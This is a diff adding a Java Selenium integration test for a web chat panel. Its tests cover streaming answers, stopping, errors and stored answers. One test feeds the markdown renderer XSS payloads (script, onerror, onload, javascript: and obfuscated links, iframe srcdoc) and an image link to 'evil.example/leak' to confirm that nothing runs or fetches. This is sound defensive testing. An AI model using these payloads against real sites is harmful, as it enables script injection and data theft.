@@ -1,0 +1,172 @@
+package millrace.page;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import millrace.harness.Browser;
+import millrace.harness.Container;
+import millrace.harness.ContainerTest;
+import millrace.harness.OnContainers;
+import millrace.harness.Server;
+import org.openqa.selenium.By;
+import org.openqa.selenium.Keys;
+import org.openqa.selenium.WindowType;
+
+/** The panel "Chat" in Chromium, with the built-in model. */
+@OnContainers({Container.TOMCAT_11, Container.JETTY_12_1})
+class ChatPanelIT {
+
+    private static final Duration LIMIT = Duration.ofSeconds(60);
+    private static final String LAST = "document.querySelector('.turn:last-child .answer')";
+    private static final String TEXT = "document.querySelector('.turn:last-child .markdown').textContent";
+
+    @ContainerTest
+    void anAnswerGoesOnAfterAReloadAndInASecondTab(Server server) {
+        try (Browser browser = Browser.start()) {
+            PageInBrowser page = PageInBrowser.open(browser, server);
+            int before = page.requestsTo("/v1/chat/completions").size();
+            ask(browser, page, "What is Millrace?");
+            browser.waitFor(LAST + ".querySelector('.reasoning .text').textContent.length > 40", LIMIT);
+            browser.driver().navigate().refresh();
+            browser.waitFor(LAST + "?.querySelector('.reasoning .text').textContent.length > 40", LIMIT);
+            assertFalse((boolean) browser.js("return " + LAST + ".dataset.state === 'done'"), "still going on");
+
+            String first = browser.driver().getWindowHandle();
+            browser.driver().switchTo().newWindow(WindowType.TAB);
+            String second = browser.driver().getWindowHandle();
+            browser.open(server.uri("/"));
+
+            List<Object> texts = new ArrayList<>();
+            for (String tab : List.of(second, first)) {
+                browser.driver().switchTo().window(tab);
+                browser.waitFor(LAST + "?.dataset.state === 'done'", LIMIT);
+                texts.add(browser.js("return " + TEXT));
+            }
+            assertEquals(texts.get(0), texts.get(1), "both tabs have the same answer");
+            assertTrue(texts.get(0).toString().contains("guide"), texts.toString());
+            assertEquals(before + 1, page.requestsTo("/v1/chat/completions").size(), "one question, asked once");
+
+            browser.driver().navigate().refresh();
+            browser.waitFor(LAST + "?.dataset.state === 'done'", LIMIT);
+            assertEquals(texts.get(0), browser.js("return " + TEXT), "what is finished is kept");
+            page.assertNothingWasBlockedOrThrown();
+        }
+    }
+
+    @ContainerTest
+    void stopEndsTheRunForAllItsReaders(Server server) {
+        try (Browser browser = Browser.start()) {
+            PageInBrowser page = PageInBrowser.open(browser, server);
+            ask(browser, page, "What is Millrace?");
+            browser.waitFor(LAST + ".querySelector('.reasoning .text').textContent.length > 10", LIMIT);
+            String first = browser.driver().getWindowHandle();
+            browser.driver().switchTo().newWindow(WindowType.TAB);
+            String second = browser.driver().getWindowHandle();
+            browser.open(server.uri("/"));
+            browser.waitFor(LAST + "?.querySelector('.reasoning .text').textContent.length > 10", LIMIT);
+
+            page.click("#chat-stop");
+
+            browser.waitFor(LAST + ".dataset.state === 'ended'", LIMIT);
+            assertEquals("Stopped.", page.text(".turn:last-child .outcome"));
+            browser.driver().switchTo().window(first);
+            browser.waitFor(LAST + ".dataset.state === 'ended'", LIMIT);
+            assertEquals("The answer was stopped.", page.text(".turn:last-child .outcome"));
+            browser.driver().switchTo().window(second);
+            page.assertNothingWasBlockedOrThrown();
+        }
+    }
+
+    @ContainerTest
+    void anErrorIsSaidInWordsAndTheQuestionStays(Server server) {
+        try (Browser browser = Browser.start()) {
+            PageInBrowser page = PageInBrowser.open(browser, server);
+            browser.waitFor("document.querySelector('#chat-model option')", LIMIT);
+            browser.js("document.querySelector('#chat-model option').value = 'no-such-model'");
+            browser.driver().findElement(By.id("chat-question")).sendKeys("Hello?" + Keys.ENTER);
+            browser.waitFor("document.getElementById('chat-say').dataset.state === 'failed'", LIMIT);
+
+            assertTrue(page.text("#chat-say").contains("no-such-model"), page.text("#chat-say"));
+            assertEquals("Hello?", browser.js("return document.getElementById('chat-question').value"));
+        }
+    }
+
+    @ContainerTest
+    void anAnswerThatIsGoneIsToldAndWhatWasThereStays(Server server) {
+        try (Browser browser = Browser.start()) {
+            PageInBrowser page = PageInBrowser.open(browser, server);
+            browser.js("""
+                    localStorage.setItem('millrace.chat', JSON.stringify([{
+                      id: '1', question: 'Old?', run: {url: new URL('streams/AAAAAAAAAAAAAAAAAAAAAA', location).href, secret: 's'},
+                      answer: {content: 'half of it', reasoning: '', error: null},
+                    }]))""");
+            browser.driver().navigate().refresh();
+            browser.waitFor(LAST + "?.dataset.state === 'failed'", LIMIT);
+
+            assertEquals("The server does not keep this answer any more.", page.text(".turn .outcome"));
+            assertEquals("half of it", browser.js("return " + TEXT).toString().strip());
+        }
+    }
+
+    /** A model may repeat what an attacker wrote. Rendered in the page itself, with its policy. */
+    @ContainerTest
+    void markdownOfAModelRunsNothingAndFetchesNothing(Server server) {
+        try (Browser browser = Browser.start()) {
+            PageInBrowser page = PageInBrowser.open(browser, server);
+            Object found = browser.driver().executeAsyncScript("""
+                    const done = arguments[arguments.length - 1];
+                    import('/page/markdown.js').then(({MarkdownView}) => {
+                      const place = document.createElement('section');
+                      document.body.append(place);
+                      const view = new MarkdownView(place);
+                      const text = arguments[0];
+                      for (let i = 1; i <= text.length; i++) view.show(text.slice(0, i));  // as it streams in
+                      const described = element => [element.localName,
+                          ...[...element.attributes].map(({name, value}) => name + '=' + value)].join(' ');
+                      setTimeout(() => done([...place.querySelectorAll('*')].map(described)), 300);
+                    });
+                    """, """
+                    <script>window.hit = 1</script><img src=x onerror="window.hit = 2"><svg/onload=window.hit=3>
+
+                    [a](javascript:window.hit=4) [b](data:text/html,x) [c](https://example.org/ "t") [d](//evil.example/)
+
+                    ![e](https://evil.example/leak?q=1) <iframe srcdoc="<script>parent.hit=5</script>"></iframe>
+
+                    <div style="position:fixed">x</div> <a href="jav&#x09;ascript:window.hit=6">f</a>
+
+                    **bold** `<b>`
+                    """);
+
+            assertEquals(null, browser.js("return window.hit"));
+            assertEquals(
+                    List.of(
+                            "div",
+                            "div", // a block each
+                            "p",
+                            "a",
+                            "a",
+                            "a href=https://example.org/ title=t rel=noopener noreferrer nofollow target=_blank",
+                            "a",
+                            "div",
+                            "p",
+                            "div",
+                            "div",
+                            "p",
+                            "strong",
+                            "code"),
+                    found);
+            page.assertNothingWasBlockedOrThrown();
+        }
+    }
+
+    private static void ask(Browser browser, PageInBrowser page, String question) {
+        browser.waitFor("document.querySelector('#chat-model option')", LIMIT);
+        browser.driver().findElement(By.id("chat-question")).sendKeys(question + Keys.ENTER);
+        browser.waitFor("document.querySelector('.turn .question')", LIMIT);
+        assertEquals(question, page.text(".turn:last-child .question"));
+    }
+}
